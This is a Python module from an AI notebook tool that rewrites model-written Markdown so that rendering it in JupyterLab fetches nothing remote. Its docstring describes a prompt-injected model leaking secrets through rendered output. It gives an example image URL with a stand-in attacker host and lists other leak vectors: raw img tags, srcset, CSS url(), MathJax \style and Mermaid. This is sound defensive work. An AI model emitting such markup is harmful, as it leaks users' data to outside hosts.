r"""Model and tool text as Markdown that renders without fetching anything or running markup.

A model's answer is shown as ``text/markdown``, and JupyterLab renders it in a trusted output (no
sanitizer) and in a saved notebook nobody trusted (sanitized, but images pass the sanitizer). A
prompt-injected model could write ``![x](https://attacker/?secret)``, a reference-style image, raw
``<img src>``, ``srcset`` or ``style="background:url(...)"``, or TeX (MathJax's ``\style`` and
``\bbox`` set CSS, so a ``url(...)`` in them fetches): the browser would send the data when the output
is drawn. ``safe_markdown`` writes the text so that no Markdown parser (JupyterLab's marked, markdown-it,
mistune, cmark) can read a fetch into it, whatever it makes of the structure:

- no raw HTML: outside code, ``<`` and ``&`` become entities; the only tags are our own ``<code>``
  (inline code, its text as entities) and the wrapper below;
- no image but a local one: ``![`` is written ``&#33;[`` (so the image becomes a link to the same
  URL) unless it is an inline image whose address is a relative or same-host path (``plot.png``,
  ``/files/x.png``) or a ``data:`` raster image, which is written back in one canonical form;
  reference-style images (``![a][ref]``) become links too;
- fenced code keeps its language only when it is one of a list of programming languages (a frontend
  draws some blocks itself: a ``mermaid`` diagram can show an image from a URL);
- fenced code is written at the top level with a fence longer than any backtick run inside it, so it
  ends where it ends for every parser (a fence nested in a list is lifted out of it); backticks and
  ``~~~`` runs left in prose become entities, so they open no code that another parser would close
  elsewhere;
- the whole is wrapped in ``<div class="mathjax_ignore tex2jax_ignore">``: MathJax does not typeset
  it, so ``$...$`` shows as written.

Formatting (emphasis, lists, tables, headings, links, code) still renders; what changes is shown in
docs/agent.md ("How answers are shown").
"""

from __future__ import annotations

import re

from ..worker.values import IMAGE_TYPES

__all__ = ["NO_TEX_CLASS", "is_local_image", "safe_markdown"]

NO_TEX_CLASS = "mathjax_ignore tex2jax_ignore"
"""The classes that make MathJax 3 (JupyterLab) and MathJax 2 (nbconvert, classic) skip an element."""

_PUNCTUATION = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
_FENCE = re.compile(r"([ \t]*)(`{3,}|~{3,})(.*)")
_LANGUAGES = frozenset(
    {
        *("python", "py", "python3", "ipython", "pycon", "pytb", "bash", "sh", "shell", "zsh", "console"),
        *("text", "plaintext", "json", "jsonc", "yaml", "yml", "toml", "ini", "cfg", "javascript", "js"),
        *("jsx", "typescript", "ts", "tsx", "html", "xml", "css", "scss", "sql", "diff", "patch", "markdown"),
        *("md", "c", "h", "cpp", "c++", "cxx", "java", "go", "rust", "rs", "ruby", "rb", "r", "julia"),
        *("kotlin", "swift", "scala", "php", "perl", "lua", "haskell", "dockerfile", "makefile", "csv"),
        *("latex", "tex", "powershell", "ps1", "graphql", "proto", "nginx"),
    }
)
"""The languages a fenced block keeps (for highlighting). Others are dropped: a frontend may draw some
languages itself (JupyterLab draws ``mermaid``, and a Mermaid diagram can show an image from a URL)."""
_BLANK_LINE = re.compile(r"\n[ \t]*\n")
_IMAGE = re.compile(
    r"!\[(?P<alt>[^\[\]\\`<>\n]*)\]"
    r"\([ \t]*(?:<(?P<angled>[^<>\n]*)>|(?P<dest>[^\s()<>]+))"
    r"""(?:[ \t]+(?:"[^"\n]*"|'[^'\n]*'))?[ \t]*\)"""
)
_LOCAL = re.compile(r"(?!//)[A-Za-z0-9_.~%+/-]+")
"""A path on the notebook's own server: no scheme (no ``:``), no ``//host``, no backslash, no space."""
_DATA = re.compile(r"data:(?P<mime>image/[a-z]+);base64,[A-Za-z0-9+/]+={0,2}")


def is_local_image(address: str) -> bool:
    """Whether an image at ``address`` loads without asking another host: a path, or ``data:`` pixels.

    Anything else (a scheme, ``//host``, a backslash, which browsers read as ``/``, an entity or a
    space the renderer might decode differently) is not.
    """
    if _LOCAL.fullmatch(address):
        return True
    data = _DATA.fullmatch(address)
    return data is not None and data["mime"] in IMAGE_TYPES


def safe_markdown(text: str) -> str:
    """``text`` (Markdown a model or tool wrote) as Markdown that fetches nothing remote when rendered."""
    parts = []
    for kind, part in _blocks(text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")):
        parts.append(part if kind == "code" else _prose(part))
    body = "".join(parts).strip("\n")
    return f'<div class="{NO_TEX_CLASS}">\n\n{body}\n\n</div>'


def _blocks(text: str) -> list[tuple[str, str]]:
    """The text cut into prose and fenced code; each code block already written canonically."""
    blocks: list[tuple[str, str]] = []
    prose: list[str] = []
    lines = text.split("\n")
    index = 0
    while index < len(lines):
        opening = _FENCE.fullmatch(lines[index])
        if opening is None or (opening[2][0] == "`" and "`" in opening[3]):
            prose.append(lines[index])
            index += 1
            continue
        indent, fence, info = opening.groups()
        closing = re.compile(rf"[ \t]*{re.escape(fence[0])}{{{len(fence)},}}[ \t]*")
        content = []
        index += 1
        while index < len(lines) and not closing.fullmatch(lines[index]):
            content.append(_dedent(lines[index], len(indent)))
            index += 1
        index += 1  # the closing fence (or the end)
        if prose:
            blocks.append(("prose", "\n".join(prose)))
            prose = []
        blocks.append(("code", _code_block("\n".join(content), info)))
    if prose:
        blocks.append(("prose", "\n".join(prose)))
    return blocks


def _dedent(line: str, width: int) -> str:
    """``line`` without up to ``width`` leading blanks (the fence's own indentation)."""
    strip = 0
    while strip < min(width, len(line)) and line[strip] in " \t":
        strip += 1
    return line[strip:]


def _code_block(content: str, info: str) -> str:
    """A fenced block at the top level, its fence longer than any backtick run inside it."""
    longest = max((len(run) for run in re.findall(r"`+", content)), default=0)
    fence = "`" * max(3, longest + 1)
    words = info.split()
    language = words[0].lower() if words and words[0].lower() in _LANGUAGES else ""
    return f"\n\n{fence}{language}\n{content}\n{fence}\n\n"


def _prose(text: str) -> str:
    """Prose with no raw HTML, no remote image, no code or fence markers another parser could misread."""
    out: list[str] = []
    index, end = 0, len(text)
    while index < end:
        char = text[index]
        if char == "\\" and index + 1 < end and text[index + 1] in _PUNCTUATION:
            out.append(_entity(text[index + 1]))  # an escaped character, as itself
            index += 2
        elif char == "`":
            run = _run_length(text, index, "`")
            span_end = _code_span_end(text, index, run)
            if span_end is None:
                out.append("&#96;" * run)
                index += run
            else:
                out.append(_code_span(text[index + run : span_end]))
                index = span_end + run
        elif char == "!" and text.startswith("[", index + 1):
            image = _IMAGE.match(text, index)
            address = image and (image["angled"] if image["angled"] is not None else image["dest"])
            if image and address is not None and is_local_image(address):
                out.append(f"![{_entities(image['alt'])}]({address})")
                index = image.end()
            else:
                out.append("&#33;")  # the rest stays, as a link to the same address
                index += 1
        elif char == "~" and text.startswith("~~~", index):
            run = _run_length(text, index, "~")
            out.append("&#126;" * run)
            index += run
        else:
            out.append({"<": "&lt;", "&": "&amp;"}.get(char, char))
            index += 1
    return "".join(out)


def _run_length(text: str, index: int, char: str) -> int:
    run = index
    while run < len(text) and text[run] == char:
        run += 1
    return run - index


def _code_span_end(text: str, index: int, run: int) -> int | None:
    """Where the code span opened by ``run`` backticks at ``index`` closes (CommonMark), or None."""
    closing = re.compile(rf"(?<!`)`{{{run}}}(?!`)")
    found = closing.search(text, index + run)
    if found is None or _BLANK_LINE.search(text, index, found.start()):
        return None  # no closing run in the same paragraph: the backticks are literal
    return found.start()


def _code_span(content: str) -> str:
    """Inline code as ``<code>`` with every character but letters, digits and spaces as an entity."""
    content = content.replace("\n", " ")
    if content.startswith(" ") and content.endswith(" ") and content.strip():
        content = content[1:-1]
    return f"<code>{_entities(content)}</code>"


def _entities(text: str) -> str:
    return "".join(char if char.isalnum() or char == " " else _entity(char) for char in text)


def _entity(char: str) -> str:
    return f"&#{ord(char)};"
